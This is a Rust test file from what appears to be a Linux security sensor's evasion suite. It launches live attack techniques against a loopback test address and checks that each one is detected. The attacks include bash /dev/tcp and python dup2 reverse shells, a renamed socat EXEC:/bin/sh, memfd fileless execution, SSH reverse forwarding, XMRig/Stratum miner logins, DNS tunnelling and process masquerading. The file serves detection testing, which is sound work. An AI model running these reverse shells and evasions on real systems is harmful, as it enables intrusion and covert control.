//! Evasion suite: attacks that avoid telltale names and argv, driven live with real programs,
//! each of which must be caught by what it does (protocol bytes, socket stdio, dup2 onto stdio,
//! memfd execution, DNS names, SNI). A renamed copy of OpenSSH, paramiko inside python3, bash
//! `/dev/tcp`, a python socket+dup2 shell, socat renamed, a memfd exec, Stratum/XMRig logins sent
//! with writev/sendmsg, DNS lookups through the system resolver and raw UDP, a TLS ClientHello to
//! a pool name, a relay, a disguised binary, and GPU fds obtained without an open the sensor saw
//! (open(2), openat2(2), SCM_RIGHTS). "External" hosts are an address of TEST-NET-2
//! (198.51.100.77) put on `lo` for the test.
//!
//! Prints the recall table (attack, expected rule, got, latency); `cargo xtask recall` runs just
//! this suite. One test function: the scenarios share the sshd and the address.

use std::{
    io::{Read, Write},
    net::{TcpListener, TcpStream},
    path::PathBuf,
    process::{Command, Stdio},
    time::{Duration, Instant},
};

use sensor::rules::Alert;
use sensor_tests::{
    free_port, group, require_root, sh, ssh_opts, sshd, wait_port, EventExt, Kill, Sensor, WAIT,
};

const SSHD_PORT: u16 = 2223;
/// TEST-NET-2 (RFC 5737): never routed, so an "external" peer that is really this host.
const EXT: &str = "198.51.100.77";

struct Cleanup(PathBuf);
impl Drop for Cleanup {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
        let _ = Command::new("ip")
            .args(["addr", "del", &format!("{EXT}/32"), "dev", "lo"])
            .stderr(Stdio::null())
            .status();
    }
}

fn spawn(c: &mut Command) -> Kill {
    Kill(
        group(c)
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap_or_else(|e| panic!("{c:?}: {e}")),
    )
}

/// A listener on `addr` that accepts connections and holds them open (reading and discarding)
/// until the test ends; returns its port.
fn listener(addr: &str) -> u16 {
    let l = TcpListener::bind((addr, 0)).unwrap();
    let port = l.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for c in l.incoming().flatten() {
            std::thread::spawn(move || {
                let mut c = c;
                let mut b = [0u8; 4096];
                let _ = c.set_read_timeout(Some(Duration::from_secs(60)));
                while matches!(c.read(&mut b), Ok(n) if n > 0) {}
            });
        }
    });
    port
}

/// A "shell catcher": accepts one connection, sends `exit` after a moment, reads until EOF.
fn catcher() -> u16 {
    let l = TcpListener::bind((EXT, 0)).unwrap();
    let port = l.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for c in l.incoming().flatten() {
            std::thread::spawn(move || {
                let mut c = c;
                std::thread::sleep(Duration::from_millis(1500));
                let _ = c.write_all(b"exit\n");
                let _ = c.set_read_timeout(Some(Duration::from_secs(10)));
                let mut b = [0u8; 4096];
                while matches!(c.read(&mut b), Ok(n) if n > 0) {}
            });
        }
    });
    port
}

/// Whether the alert's exec had an IP socket on its stdio whose peer port is `port`.
fn stdio_peer(a: &Alert, port: u16) -> bool {
    a.event
        .exec()
        .and_then(|x| x.stdio.as_ref())
        .is_some_and(|st| st.peer_port == Some(port))
}

/// One row of the recall table.
struct Row {
    attack: &'static str,
    rule: &'static str,
    got: Option<Alert>,
    latency: Duration,
}

/// A row whose evidence is an event rather than an alert (`what` says which).
struct EventRow {
    attack: &'static str,
    what: &'static str,
    got: Option<String>,
    latency: Duration,
}

/// Stand-in GPU: the memory device 1:7 (/dev/full's numbers, drivers/char/mem.c) registered as
/// an NVIDIA node, under a path the open hook does not watch.
const STANDIN: &str = "[gpu]\nnvml = false\n[[gpu.devices]]\nmajor = 1\nminor = 7\nkind = \"nvidia\"\ngpu_minor = 0\nemulated = true\n";

/// Waits for `rule` on a process matching `pid` (any pid when `None`) whose alert satisfies
/// `more`, timing from `t0`.
fn expect(
    s: &Sensor,
    rows: &mut Vec<Row>,
    attack: &'static str,
    rule: &'static str,
    t0: Instant,
    pred: impl Fn(&Alert) -> bool,
) {
    let got = s.wait_alert(WAIT, |a| a.rule == rule && pred(a));
    rows.push(Row {
        attack,
        rule,
        got,
        latency: t0.elapsed(),
    });
}

#[test]
fn evasions_are_caught_by_behaviour() {
    if !require_root("evasions_are_caught_by_behaviour") {
        return;
    }
    let dir = std::env::temp_dir().join(format!("evasion-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let _clean = Cleanup(dir.clone());
    let _ = Command::new("ip")
        .args(["addr", "add", &format!("{EXT}/32"), "dev", "lo"])
        .stderr(Stdio::null())
        .status();
    let _sshd = sshd(&dir, SSHD_PORT);
    let cfg = dir.join("sensor.toml");
    std::fs::write(&cfg, STANDIN).unwrap();
    let node = dir.join("gpu0");
    {
        let c = std::ffi::CString::new(node.as_os_str().as_encoded_bytes()).unwrap();
        // SAFETY: valid path; a character device node in our own temp dir (root).
        let rc = unsafe { libc::mknod(c.as_ptr(), libc::S_IFCHR | 0o600, libc::makedev(1, 7)) };
        assert_eq!(rc, 0, "mknod: {}", std::io::Error::last_os_error());
    }
    let s = Sensor::start(&["--config", cfg.to_str().unwrap()]);
    let mut erows: Vec<EventRow> = vec![];
    let mut rows: Vec<Row> = vec![];
    let d = dir.display().to_string();
    let key = dir.join("id").display().to_string();
    let py = "/usr/bin/python3";

    // 1. A copy of OpenSSH under another name, options after the destination.
    let fake = dir.join("kthelper");
    std::fs::copy("/usr/bin/ssh", &fake).unwrap();
    let target = listener("127.0.0.1");
    // Remote-forward ports differ per run: a session child of an earlier run's sshd may
    // still hold a fixed one.
    let (f1, f2, f3) = (free_port(), free_port(), free_port());
    let t0 = Instant::now();
    let _renamed = spawn(
        Command::new(&fake)
            .arg("root@127.0.0.1")
            .args(ssh_opts(&dir, SSHD_PORT))
            .args(["-N", "-R", &format!("{f1}:127.0.0.1:{target}")]),
    );
    let fake_s = fake.display().to_string();
    let by_fake = |a: &Alert| a.exe.as_deref() == Some(fake_s.as_str());
    expect(
        &s,
        &mut rows,
        "renamed ssh -R (options after destination)",
        "ssh-forwarding-flags",
        t0,
        by_fake,
    );
    expect(
        &s,
        &mut rows,
        "renamed ssh: SSH banner from an unexpected binary",
        "ssh-protocol-from-unexpected-binary",
        t0,
        by_fake,
    );
    wait_port(f1);
    let t0 = Instant::now();
    let mut c = TcpStream::connect(("127.0.0.1", f1)).unwrap();
    let _ = c.write_all(b"hello");
    expect(
        &s,
        &mut rows,
        "renamed ssh: remote forward used",
        "ssh-remote-forward-in-use",
        t0,
        by_fake,
    );
    drop(c);

    // 1b. The forward hidden in an ssh_config file (-F) rather than on the command line.
    let cfgf = dir.join("ssh_cfg");
    std::fs::write(
        &cfgf,
        format!(
            "Host tun\n  HostName 127.0.0.1\n  Port {SSHD_PORT}\n  User root\n  IdentityFile {key}\n  \
             StrictHostKeyChecking no\n  UserKnownHostsFile /dev/null\n  BatchMode yes\n  \
             RemoteForward {f3} 127.0.0.1:{target}\n"
        ),
    )
    .unwrap();
    let t0 = Instant::now();
    let _cfgssh = spawn(Command::new("ssh").args(["-F", cfgf.to_str().unwrap(), "-N", "tun"]));
    let src = format!("{}:9", cfgf.display());
    expect(
        &s,
        &mut rows,
        "ssh -F file with RemoteForward in the file",
        "ssh-forwarding-options",
        t0,
        |a| {
            a.event
                .exec()
                .and_then(|x| x.ssh_config.as_ref())
                .is_some_and(|c| {
                    c.directives
                        .iter()
                        .any(|d| d.key == "remoteforward" && d.source == src)
                })
        },
    );

    // 2. paramiko inside python3 opening a reverse forward and serving it.
    let script = dir.join("fwd.py");
    std::fs::write(
        &script,
        format!(
            r#"
import paramiko, socket, threading
c = paramiko.SSHClient()
c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
c.connect("127.0.0.1", port={SSHD_PORT}, username="root", key_filename="{key}", allow_agent=False, look_for_keys=False)
t = c.get_transport()
t.request_port_forward("127.0.0.1", {f2})
while True:
    ch = t.accept(60)
    if ch is None:
        break
    s = socket.create_connection(("127.0.0.1", {target}))
    s.sendall(ch.recv(100))
"#
        ),
    )
    .unwrap();
    let t0 = Instant::now();
    let pyfwd = spawn(Command::new(py).arg(&script));
    let pypid = pyfwd.0.id();
    expect(
        &s,
        &mut rows,
        "paramiko in python3: SSH banner",
        "ssh-protocol-from-unexpected-binary",
        t0,
        |a| a.pid == pypid,
    );
    wait_port(f2);
    let t0 = Instant::now();
    let mut c = TcpStream::connect(("127.0.0.1", f2)).unwrap();
    let _ = c.write_all(b"hello");
    expect(
        &s,
        &mut rows,
        "paramiko in python3: remote forward used",
        "ssh-remote-forward-in-use",
        t0,
        |a| a.pid == pypid,
    );
    drop(c);

    // 3. bash -i >& /dev/tcp/HOST/PORT 0>&1
    let port = catcher();
    let t0 = Instant::now();
    let _b =
        spawn(Command::new("bash").args(["-c", &format!("bash -i >& /dev/tcp/{EXT}/{port} 0>&1")]));
    expect(
        &s,
        &mut rows,
        "bash /dev/tcp: the shell connects out",
        "shell-network-connect",
        t0,
        |a| a.event.net().is_some_and(|n| n.dst_port == Some(port)),
    );
    expect(
        &s,
        &mut rows,
        "bash /dev/tcp: interactive shell on the socket",
        "reverse-shell-socket-stdio",
        t0,
        |a| stdio_peer(a, port),
    );

    // 4. python socket + dup2 + /bin/sh
    let port = catcher();
    let t0 = Instant::now();
    let pys = spawn(Command::new(py).args([
        "-c",
        &format!("import socket,os,subprocess; s=socket.create_connection(('{EXT}',{port})); [os.dup2(s.fileno(),f) for f in (0,1,2)]; subprocess.call(['/bin/sh','-i'])"),
    ]));
    let pyspid = pys.0.id();
    expect(
        &s,
        &mut rows,
        "python dup2 reverse shell: socket onto stdio",
        "socket-dup-to-stdio",
        t0,
        |a| a.pid == pyspid,
    );
    expect(
        &s,
        &mut rows,
        "python dup2 reverse shell: sh on the socket",
        "reverse-shell-socket-stdio",
        t0,
        |a| stdio_peer(a, port),
    );

    // 5. socat copied to another name, EXEC:/bin/sh
    let port = catcher();
    let relay = dir.join("updater");
    std::fs::copy("/usr/bin/socat", &relay).unwrap();
    let t0 = Instant::now();
    let _so = spawn(Command::new(&relay).args([&format!("TCP:{EXT}:{port}"), "EXEC:/bin/sh"]));
    // socat hands EXEC a socketpair and relays: the shell's stdio are unix sockets whose
    // other end is held by the (renamed) socat with its external connection.
    expect(
        &s,
        &mut rows,
        "renamed socat EXEC:/bin/sh",
        "shell-relayed-to-network",
        t0,
        |a| {
            a.lineage.first().and_then(|p| p.exe.as_deref())
                == Some(relay.display().to_string().as_str())
        },
    );

    // 6. A program run from a memfd (fexecve).
    let t0 = Instant::now();
    let out = Command::new(py)
        .args([
            "-c",
            "import os; fd=os.memfd_create('worker'); os.write(fd, open('/bin/true','rb').read()); os.execve(fd, ['worker'], {})",
        ])
        .status()
        .unwrap();
    assert!(out.success());
    // The kernel names the task after the memfd (`memfd:worker`); the exe is `/dev/fd/N` or,
    // when /proc was read in time, `/memfd:worker (deleted)`.
    expect(
        &s,
        &mut rows,
        "memfd exec (fexecve)",
        "fileless-exec",
        t0,
        |a| a.comm == "memfd:worker" && a.event.exec().is_some_and(|x| x.exe_unlinked),
    );

    // 7. XMRig login with the agent past byte 64, sent with sendmsg; Stratum with writev.
    let pool = listener(EXT);
    let wallet = "4".repeat(95);
    let t0 = Instant::now();
    // Two processes: alerts of one rule for one process are de-duplicated.
    let st = Command::new(py)
        .args(["-c", &format!(
            "import socket,time\n\
             s=socket.create_connection(('{EXT}',{pool}))\n\
             s.sendmsg([b'{{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"login\",\"params\":{{\"login\":\"{wallet}\",', b'\"pass\":\"x\",\"agent\":\"XMRig/6.21.0 (Linux x86_64) libuv/1.44.2 gcc/12.2.0\"}}}}\\n'])\n\
             time.sleep(0.3)"
        )])
        .status()
        .unwrap();
    assert!(st.success());
    let st = Command::new(py)
        .args(["-c", &format!(
            "import socket,os,time\n\
             t=socket.create_connection(('{EXT}',{pool}))\n\
             os.writev(t.fileno(), [b'{{\"id\":1,\"method\":\"mining.', b'subscribe\",\"params\":[\"cpuminer/2.5\"]}}\\n'])\n\
             time.sleep(0.3)"
        )])
        .status()
        .unwrap();
    assert!(st.success());
    expect(
        &s,
        &mut rows,
        "XMRig login via sendmsg (agent past byte 64)",
        "stratum-handshake",
        t0,
        |a| {
            a.event.net_payload().is_some_and(|p| {
                p.app
                    .miner_agent
                    .as_deref()
                    .is_some_and(|x| x.starts_with("XMRig/6.21.0"))
            })
        },
    );
    expect(
        &s,
        &mut rows,
        "Stratum subscribe via writev",
        "stratum-handshake",
        t0,
        |a| {
            a.event
                .net_payload()
                .is_some_and(|p| p.app.rpc_method.as_deref() == Some("mining.subscribe"))
        },
    );

    // 8. DNS: raw UDP, and the system resolver (getent) pointed at 127.0.0.1 in a private mount
    //    namespace.
    let t0 = Instant::now();
    sh(&format!(
        "{py} -c \"import socket; q=b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x04pool\\x0asupportxmr\\x03com\\x00\\x00\\x01\\x00\\x01'; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(q, ('127.0.0.1', 53))\""
    ));
    expect(
        &s,
        &mut rows,
        "DNS query of a pool name (raw UDP)",
        "mining-pool-dns-lookup",
        t0,
        |a| a.comm.starts_with("python"),
    );
    std::fs::write(
        dir.join("resolv.conf"),
        "nameserver 127.0.0.1\noptions timeout:1 attempts:1\n",
    )
    .unwrap();
    let t0 = Instant::now();
    let _ = Command::new("unshare")
        .args(["-m", "sh", "-c", &format!("mount --bind {d}/resolv.conf /etc/resolv.conf && getent ahosts gulf.moneroocean.stream")])
        .stdout(Stdio::null())
        .status()
        .unwrap();
    expect(
        &s,
        &mut rows,
        "DNS via the system resolver (getent)",
        "mining-pool-dns-lookup",
        t0,
        |a| a.comm == "getent",
    );
    let t0 = Instant::now();
    sh(&format!(
        "{py} -c \"import socket\nfor i in range(40): socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'\\x00\\x01\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00' + bytes([12]) + ('%012x' % (i * 7919 + 0x5a5a5a)).encode() + b'\\x01t\\x07example\\x03org\\x00\\x00\\x10\\x00\\x01', ('127.0.0.1', 53))\""
    ));
    expect(
        &s,
        &mut rows,
        "DNS tunnel: 40 names of one zone",
        "dns-tunnel-shape",
        t0,
        |a| a.comm.starts_with("python"),
    );

    // 9. TLS ClientHello naming a pool (python ssl), to a listener that never answers.
    let t0 = Instant::now();
    let _ = Command::new(py)
        .args(["-c", &format!(
            "import socket,ssl\n\
             s=socket.create_connection(('{EXT}',{pool}))\n\
             s.settimeout(1)\n\
             try: ssl.create_default_context().wrap_socket(s, server_hostname='xmr.pool.supportxmr.com')\n\
             except Exception: pass"
        )])
        .status()
        .unwrap();
    expect(
        &s,
        &mut rows,
        "TLS SNI of a pool",
        "mining-pool-tls-or-http",
        t0,
        |a| {
            a.event
                .net_payload()
                .is_some_and(|p| p.app.sni.as_deref() == Some("xmr.pool.supportxmr.com"))
        },
    );

    // 10. A hand-written relay: holds an external connection, then connects to the local SSH
    //     server (a reverse tunnel exposing a shell, with no ssh client anywhere).
    let t0 = Instant::now();
    let _ = Command::new(py)
        .args([
            "-c",
            &format!(
                "import socket,time\n\
             up=socket.create_connection(('{EXT}',{pool}))\n\
             time.sleep(2.5)\n\
             down=socket.create_connection(('127.0.0.1',{SSHD_PORT}))\n\
             time.sleep(0.3)"
            ),
        ])
        .status()
        .unwrap();
    expect(
        &s,
        &mut rows,
        "relay: external link, then a local service",
        "relay-external-to-local",
        t0,
        |a| a.event.net().is_some_and(|n| n.dst_port == Some(SSHD_PORT)),
    );
    expect(
        &s,
        &mut rows,
        "relay: external link carried into the local sshd",
        "relay-into-local-login-service",
        t0,
        |a| a.event.net().is_some_and(|n| n.dst_port == Some(SSHD_PORT)),
    );

    // 11. Disguised binaries: a daemon's name in /tmp, a kernel-thread argv[0].
    let kw = dir.join("kworker");
    std::fs::copy("/bin/true", &kw).unwrap();
    let t0 = Instant::now();
    assert!(Command::new(&kw).status().unwrap().success());
    let kw_s = kw.display().to_string();
    expect(
        &s,
        &mut rows,
        "daemon name on a /tmp binary",
        "masquerading-process-name",
        t0,
        |a| a.exe.as_deref() == Some(kw_s.as_str()),
    );
    let t0 = Instant::now();
    sh("bash -c \"exec -a '[kworker/0:1]' /bin/true\"");
    expect(
        &s,
        &mut rows,
        "kernel-thread argv[0]",
        "masquerading-process-name",
        t0,
        |a| a.argv.first().is_some_and(|x| x == "[kworker/0:1]"),
    );

    // 12. A GPU fd the open hook never saw: open(2), openat2(2), and one received over a unix
    //     socket (SCM_RIGHTS) from a process that opened it with openat(2) on a path the hook
    //     does not watch. Each issues an RM_ALLOC-shaped ioctl ('F', 0xc030462b). x86_64
    //     syscall numbers: open 2, openat2 437.
    let n = node.display().to_string();
    let gpu_cases: [(&'static str, String); 3] = [
        ("GPU fd from open(2)", format!("fd = libc.syscall(2, b'{n}', os.O_RDWR)")),
        ("GPU fd from openat2(2)", format!("how = struct.pack('QQQ', os.O_RDWR, 0, 0)\nfd = libc.syscall(437, -100, b'{n}', how, len(how))")),
        ("GPU fd received over SCM_RIGHTS", format!(
            "a, b = socket.socketpair()\n\
             if os.fork() == 0:\n    socket.send_fds(a, [b'x'], [os.open('{n}', os.O_RDWR)])\n    os._exit(0)\n\
             _, fds, _, _ = socket.recv_fds(b, 1, 1)\nfd = fds[0]"
        )),
    ];
    for (attack, get_fd) in gpu_cases {
        let script = format!(
            "import ctypes, os, socket, struct, sys, time\n\
             libc = ctypes.CDLL(None, use_errno=True)\n\
             {get_fd}\n\
             assert fd >= 0, ctypes.get_errno()\n\
             buf = ctypes.create_string_buffer(48)\n\
             libc.ioctl(fd, ctypes.c_ulong(0xc030462b), buf)\n\
             print(os.getpid(), flush=True)\n\
             time.sleep(0.3)\n"
        );
        let t0 = Instant::now();
        let out = Command::new(py).args(["-c", &script]).output().unwrap();
        assert!(
            out.status.success(),
            "{attack}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        let pid: u32 = String::from_utf8_lossy(&out.stdout).trim().parse().unwrap();
        let got = s
            .wait_event(WAIT, |e| e.pid == pid && e.gpu_ioctl().is_some())
            .map(|e| {
                format!(
                    "yes ({} on minor {})",
                    e.gpu_ioctl().unwrap().op,
                    e.gpu_ioctl().unwrap().minor
                )
            });
        erows.push(EventRow {
            attack,
            what: "gpu_ioctl event",
            got,
            latency: t0.elapsed(),
        });
        // The open itself is an event too when it went through open(2)/openat2(2).
        if attack != "GPU fd received over SCM_RIGHTS" {
            let got = s
                .wait_event(WAIT, |e| e.pid == pid && e.gpu_open().is_some())
                .map(|e| format!("yes ({})", e.gpu_open().unwrap().path));
            erows.push(EventRow {
                attack,
                what: "gpu_open event",
                got,
                latency: t0.elapsed(),
            });
        }
    }

    // 13. Benign look-alikes that must stay silent: an inbound SSH login (sshd puts the
    //     accepted socket on its child's stdio with dup2), a launcher's bash `/dev/tcp` wait on a
    //     loopback rendezvous, and a plain `ssh host true`.
    let st = Command::new("ssh")
        .args(ssh_opts(&dir, SSHD_PORT))
        .args(["root@127.0.0.1", "true"])
        .stderr(Stdio::null())
        .status()
        .unwrap();
    assert!(st.success(), "plain ssh login");
    let wait = Command::new("bash")
        .args(["-c", &format!("echo > /dev/tcp/127.0.0.1/{target}")])
        .spawn()
        .unwrap();
    let wait_pid = wait.id();
    assert!(wait.wait_with_output().unwrap().status.success());
    std::thread::sleep(Duration::from_secs(1));
    let behaviour_rules = [
        "reverse-shell-socket-stdio",
        "socket-dup-to-stdio",
        "shell-network-connect",
        "shell-relayed-to-network",
        "ssh-protocol-from-unexpected-binary",
        "fileless-exec",
        "masquerading-process-name",
    ];
    let noisy: Vec<Alert> = s.alerts(|a| {
        behaviour_rules.contains(&a.rule.as_str())
            && (a.pid == wait_pid
                || a.exe
                    .as_deref()
                    .is_some_and(|e| e.ends_with("/sshd") || e.ends_with("/sshd-session"))
                || a.comm.starts_with("sshd"))
    });

    // Incidents as printed so far (an evidence-only rule hit joins one that may not be raised).
    let incidents = sensor_tests::latest_incidents(&s.records());
    let incident_of = |a: &Alert| {
        a.incident
            .as_deref()
            .and_then(|id| incidents.iter().find(|i| i.id == id))
    };
    // The recall table.
    println!("\n| attack | expected rule | got | incident (score, severity) | latency |\n|---|---|---|---|---|");
    for r in &rows {
        println!(
            "| {} | `{}` | {} | {} | {} |",
            r.attack,
            r.rule,
            match &r.got {
                Some(a) => format!(
                    "yes ({} {:?}, pid {}, {})",
                    a.kind,
                    a.severity,
                    a.pid,
                    a.exe.as_deref().unwrap_or(&a.comm)
                ),
                None => "**no**".into(),
            },
            match r.got.as_ref().and_then(&incident_of) {
                Some(i) => format!("{} ({}, {:?})", i.id, i.score, i.severity),
                None => "**none**".into(),
            },
            if r.got.is_some() {
                format!("≤ {} ms", r.latency.as_millis())
            } else {
                "-".into()
            }
        );
    }
    for r in &erows {
        println!(
            "| {} | {} | {} | - | {} |",
            r.attack,
            r.what,
            r.got.as_deref().unwrap_or("**no**"),
            if r.got.is_some() {
                format!("≤ {} ms", r.latency.as_millis())
            } else {
                "-".into()
            }
        );
    }
    // The attack side of the confusion table (`cargo xtask confusion`).
    for r in &rows {
        let i = r.got.as_ref().and_then(&incident_of);
        println!(
            "CONFUSION|{} (live)|incident|{}|{}|{}|{}",
            r.attack,
            if i.is_some() { "incident" } else { "none" },
            i.map_or("-".to_string(), |i| i.score.to_string()),
            i.map_or("-".to_string(), |i| format!("{:?}", i.severity)
                .to_lowercase()),
            r.got
                .as_ref()
                .map_or("-".to_string(), |a| format!("{} ({})", a.rule, a.kind))
        );
    }
    // Every attack is an incident that pages, not only a rule hit.
    let unraised: Vec<(&str, &str)> = rows
        .iter()
        .filter(|r| r.got.as_ref().is_some_and(|a| incident_of(a).is_none()))
        .map(|r| (r.attack, r.rule))
        .collect();
    let mut missed: Vec<_> = rows
        .iter()
        .filter(|r| r.got.is_none())
        .map(|r| r.attack)
        .collect();
    missed.extend(erows.iter().filter(|r| r.got.is_none()).map(|r| r.attack));
    // Every alert carries the lineage of its process (the whole story in one record).
    for r in rows.iter().filter_map(|r| r.got.as_ref()) {
        assert!(!r.lineage.is_empty(), "{} has no lineage", r.rule);
    }
    drop(s.stop());
    assert!(missed.is_empty(), "missed: {missed:?}");
    assert!(
        unraised.is_empty(),
        "caught but raised no incident: {unraised:?}"
    );
    assert!(noisy.is_empty(), "benign look-alikes alerted: {noisy:#?}");
}
